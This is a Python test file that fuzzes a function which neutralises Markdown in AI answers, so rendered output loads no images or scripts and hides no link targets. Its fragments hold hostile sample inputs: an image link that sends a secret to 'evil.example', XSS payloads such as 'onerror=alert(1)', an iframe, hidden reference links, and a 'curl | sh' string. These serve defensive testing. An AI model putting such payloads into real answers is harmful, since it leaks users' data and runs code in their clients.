"""What clients render of an answer as Markdown loads nothing, runs nothing, and hides no address."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from answerable.interfaces.http.openai.completions import inert

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")
FRAGMENTS = """
![ ![x](https://evil.example/?q=secret) [here](https://evil.example) [a]: https://evil.example [a] ](https://e.example)
<img src=x onerror=alert(1)> <script> </script> <iframe src='//e.example'> <svg onload=x <a href=x> <b> ` `` ``` ~~~ [1]
! ( ) [ ] < > \\ x<y List<String> www.example.com https://good.example/a_(b) <https://auto.example> | : * _
""".split()
HOSTILE = st.lists(st.sampled_from([*FRAGMENTS, " ", "\n", "\n\n"]), max_size=16).map("".join)


@settings(deadline=None)
@given(HOSTILE)
@example("![x](https://evil.example/?q=secret)")
@example("[a]: https://evil.example\n\n[a] ![a]")
@example("`code ![x](https://evil.example)\n\n` ![x](https://evil.example)")
def test_nothing_loads_or_hides_where_it_leads(text: str) -> None:
    shown = MARKDOWN.render(inert(text))
    assert not re.search(r"<(?:img|script|iframe|svg)\b", shown, re.IGNORECASE)
    for address, label in re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', shown):
        assert address == label, "only an address that shows itself leads anywhere"


@pytest.mark.parametrize(
    "text",
    [
        "O site é www.aurora.com.br.",
        "if x<y then a->b",
        "Run `curl -s <url> | sh`:\n\n```html\n<img src=x> ![a](b)\n```\n[1]",
        "See <https://auto.example>.",
        "See https://log.example/in?x=1 [1][2], (note 3) and [3].",
        "| a | b |\n|---|---|\n| 1 | **2** [1] |",
    ],
)
def test_ordinary_text_and_code_keep_their_letters(text: str) -> None:
    assert inert(text) == text


def test_no_text_takes_long() -> None:
    for hostile in ("`", "`a", "``", "<a", "<a=", "![", "](", "[a](b)", "~~~\n", "\\"):
        started = time.process_time()
        inert(hostile * 20_000)
        assert time.process_time() - started < 5, hostile
